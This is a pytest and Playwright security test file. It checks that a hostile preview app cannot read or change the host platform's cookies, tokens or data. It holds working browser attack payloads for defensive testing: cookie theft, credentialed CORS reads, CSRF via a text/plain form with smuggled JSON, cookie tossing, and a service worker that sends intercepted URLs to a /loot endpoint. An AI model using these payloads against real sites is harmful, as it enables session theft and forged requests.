"""A hostile product, in a real browser of a founder: it gets nothing of ours, and changes nothing."""

import uuid
from collections.abc import AsyncIterator
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import urlsplit

import pytest
from playwright.async_api import BrowserContext, Page, async_playwright
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import HTMLResponse, Response
from starlette.routing import Route

from clients.browser import find_chromium
from local.stack import LocalStack
from tests.harness.api_server import OPERATORS, TOKEN, RunningApi, new_database, running_api, settings_for
from tests.harness.asgi_server import serving
from tests.harness.build_rows import builds_of
from tests.harness.preview_gateway import Gateway, link_of, open_preview

SERVICE_WORKER = """
self.addEventListener("install", () => self.skipWaiting());
self.addEventListener("activate", (event) => event.waitUntil(self.clients.claim()));
self.addEventListener("fetch", (event) => {
  const url = new URL(event.request.url);
  if (url.pathname.startsWith("/.cofounder")) { fetch("/loot?" + encodeURIComponent(url.href)); }
});
"""

ATTACK = """
async (api) => {
  const tried = {};
  const attempt = async (name, act) => {
    try { tried[name] = await act(); } catch (error) { tried[name] = String(error.name); }
  };
  const ours = api + "/v1/projects";
  const json = { "Content-Type": "application/json" };
  const write = { method: "POST", body: JSON.stringify({ name: "hacked" }) };
  await attempt("cookies", async () => document.cookie);
  await attempt("cors read", async () => (await fetch(ours, { credentials: "include" })).text());
  await attempt("cors write", async () =>
    (await fetch(ours, { ...write, credentials: "include", headers: json })).text());
  await attempt("plain write", async () =>
    (await fetch(ours, { ...write, mode: "no-cors", credentials: "include" })).type);
  await attempt("opaque read", async () =>
    (await fetch(ours, { mode: "no-cors", credentials: "include" })).text());
  await attempt("websocket", () => new Promise((done) => {
    const socket = new WebSocket(api.replace("http", "ws") + "/v1/builds");
    socket.onopen = () => done("open");
    socket.onerror = () => done("refused");
  }));
  await attempt("frame", () => new Promise((done) => {
    const frame = document.createElement("iframe");
    frame.src = api + "/docs";
    frame.onload = () => {
      try { done(frame.contentDocument ? "readable" : "hidden"); } catch (error) { done("hidden"); }
    };
    document.body.append(frame);
  }));
  await attempt("form", () => new Promise((done) => {
    const frame = document.createElement("iframe");
    frame.name = "target";
    document.body.append(frame);
    const form = document.createElement("form");
    Object.assign(form, { method: "POST", action: ours, target: "target", enctype: "text/plain" });
    const input = document.createElement("input");
    Object.assign(input, { name: '{"name":"hacked","x":"', value: '"}' });
    form.append(input);
    document.body.append(form);
    frame.onload = () => done("sent");
    form.submit();
  }));
  await attempt("toss", async () => {
    for (const domain of ["localhost", ".localhost", location.hostname, "127.0.0.1"]) {
      document.cookie = `cofounder=tossed; Domain=${domain}; Path=/`;
      document.cookie = `__Host-cofounder=tossed; Domain=${domain}; Path=/; Secure`;
    }
    return "tried";
  });
  await attempt("service worker", async () => {
    await navigator.serviceWorker.register("/worker.js", { scope: "/" });
    await navigator.serviceWorker.ready;
    return "ready";
  });
  await attempt("opened", async () => {
    const opened = window.open(api + "/docs");
    await new Promise((done) => setTimeout(done, 300));
    try { return opened === null ? "blocked" : opened.document.title; } catch (error) { return error.name; }
  });
  return tried;
}
"""


@dataclass
class Hostile:
    """A product that records all it gets, and answers with everything that it may not."""

    seen: list[dict[str, Any]] = field(default_factory=list)

    def app(self) -> Starlette:
        async def page(request: Request) -> Response:
            self.seen.append({"url": str(request.url), "headers": dict(request.headers)})
            answer = HTMLResponse("<!doctype html><title>Hostile</title><p>hostile</p>")
            for cookie in (
                "tossed=1; Domain=localhost; Path=/",
                "__Host-cofounder-preview=mine; Secure; Path=/",
                "cofounder=mine; Path=/",
                "own=1; Path=/",
            ):
                answer.headers.append("Set-Cookie", cookie)
            answer.headers["Clear-Site-Data"] = '"cookies"'
            answer.headers["Access-Control-Allow-Origin"] = request.headers.get("origin", "*")
            answer.headers["Access-Control-Allow-Credentials"] = "true"
            return answer

        async def worker(request: Request) -> Response:
            return Response(SERVICE_WORKER, media_type="text/javascript", headers={"Service-Worker-Allowed": "/"})

        return Starlette(routes=[Route("/worker.js", worker), Route("/{path:path}", page, methods=["GET", "POST"])])


@pytest.fixture(scope="module")
async def api(stack: LocalStack) -> AsyncIterator[RunningApi]:
    settings = settings_for(await new_database(stack), stack.environment, api_operator_token=OPERATORS)
    async with running_api(settings, stack.environment) as running:
        yield running


@pytest.fixture(scope="module")
async def context() -> AsyncIterator[BrowserContext]:
    async with async_playwright() as playwright:
        browser = await playwright.chromium.launch(executable_path=find_chromium(None), args=["--no-sandbox"])
        made = await browser.new_context(bypass_csp=True)  # the tests' own scripts in our pages
        yield made
        await browser.close()


async def test_a_hostile_product_gets_nothing_and_changes_nothing(api: RunningApi, context: BrowserContext) -> None:
    hostile = Hostile()
    user = f"founder-{uuid.uuid4().hex[:8]}"
    [build] = await builds_of(api.sessions, user, 1)
    gateway = Gateway(api, build, user)
    async with serving(hostile.app(), ws="none") as port:
        await open_preview(api, build, f"http://3000-box.localhost:{port}")
        link = await link_of(gateway)
        page: Page = await context.new_page()
        await page.goto(link["url"])
        await page.wait_for_url(f"http://{gateway.host}/**")
        assert await page.inner_text("p") == "hostile"
        before = await api.rows()
        tried = await page.evaluate(ATTACK, api.url)
        # Once more, now under the service worker, as a browser without a visit.
        await context.clear_cookies()
        await page.goto(link["url"])
        await page.wait_for_url(f"http://{gateway.host}/**")
        kept = {name: count for name, count in (await api.rows()).items() if name != "preview_visits"}
    secret = urlsplit(link["url"]).fragment
    assert tried["cookies"] == "own=1"
    assert tried["cors read"] == tried["cors write"] == "TypeError"
    assert tried["opaque read"] == "TypeError"  # Cross-Origin-Resource-Policy
    assert (tried["websocket"], tried["frame"]) == ("refused", "hidden")
    assert tried["opened"] in ("SecurityError", "blocked")
    assert kept == {name: before[name] for name in kept}
    for request in hostile.seen:
        told = str({name: value for name, value in request["headers"].items() if name != "e2b-traffic-access-token"})
        for ours in (TOKEN, OPERATORS, secret, "cofounder-preview", "tossed"):
            assert ours not in told
    cookies = await context.cookies()
    hidden = {cookie["name"] for cookie in cookies if "cofounder" in cookie["name"] and cookie["httpOnly"]}
    assert "__Host-cofounder-preview" in hidden
    assert all(
        cookie["value"] not in ("mine", "tossed")
        for cookie in cookies
        if cookie["domain"] != urlsplit(f"//{gateway.host}").hostname
    )


async def _signed_in(api: RunningApi, context: BrowserContext) -> Page:
    """A page of ours in which the founder is signed in."""
    made = await api.http.post("/v1/sign-in-links", json={})
    page = await context.new_page()
    await page.goto(made.json()["url"])
    await page.wait_for_url(f"{api.url}/")
    return page


async def test_a_preview_page_can_do_nothing_with_the_founders_sign_in(
    api: RunningApi, context: BrowserContext
) -> None:
    """Requests across sites from a real preview, in the browser in which its founder is signed in."""
    hostile = Hostile()
    [build] = await builds_of(api.sessions, "founder", 1)
    gateway = Gateway(api, build, "founder")
    async with serving(hostile.app(), ws="none") as port:
        await open_preview(api, build, f"http://3000-box.localhost:{port}")
        own = await _signed_in(api, context)
        [token] = [each["value"] for each in await context.cookies(api.url)]
        page = await context.new_page()
        await page.goto(f"http://{gateway.host}/a?b=1")
        assert page.url == f"http://{gateway.host}/a?b=1"  # by the sign-in, without a page in between
        assert await page.inner_text("p") == "hostile"
        before = await api.rows()
        tried = await page.evaluate(ATTACK, api.url)
        field = """<input name='{"name":"h","x":"' value='"}'>"""
        form = f'<form method="post" enctype="text/plain" action="{api.url}/v1/projects">{field}</form>'
        await page.evaluate("form => { document.body.innerHTML = form; document.forms[0].submit(); }", form)
        await page.wait_for_url(f"{api.url}/v1/projects")
        assert "problem" in await page.content()
        after = await api.rows()
        still = await own.evaluate("fetch('/v1/me').then((answer) => answer.status)")
    assert tried["cors read"] == tried["cors write"] == "TypeError"
    assert (tried["websocket"], tried["frame"]) == ("refused", "hidden")
    assert tried["opened"] in ("SecurityError", "blocked")
    changes = {name for name in before if before[name] != after[name]}
    assert changes <= {"request_buckets"}
    assert still == 200
    assert [each["value"] for each in await context.cookies(api.url) if each["httpOnly"]] == [token]
    assert token not in str(hostile.seen)


async def test_a_page_of_ours_shows_a_preview_in_a_frame(api: RunningApi, context: BrowserContext) -> None:
    hostile = Hostile()
    [build] = await builds_of(api.sessions, "founder", 1)
    gateway = Gateway(api, build, "founder")
    async with serving(hostile.app(), ws="none") as port:
        await open_preview(api, build, f"http://3000-box.localhost:{port}")
        own = await _signed_in(api, context)
        await own.evaluate(
            "url => { const frame = document.createElement('iframe'); frame.src = url; document.body.append(frame); }",
            f"http://{gateway.host}/",
        )
        await own.frame_locator("iframe").locator("p").filter(has_text="hostile").wait_for()
        # Its cookie is for that frame; the preview's own tab gets another.
        page = await context.new_page()
        await page.goto(f"http://{gateway.host}/")
        assert await page.inner_text("p") == "hostile"


async def test_a_founder_is_told_why_anothers_preview_does_not_show(api: RunningApi, context: BrowserContext) -> None:
    [build] = await builds_of(api.sessions, f"other-{uuid.uuid4().hex[:8]}", 1)
    await _signed_in(api, context)
    page = await context.new_page()
    await page.goto(f"http://{Gateway(api, build, '').host}/")
    await page.get_by_text("You are signed in as founder, who does not work on this product.").wait_for()
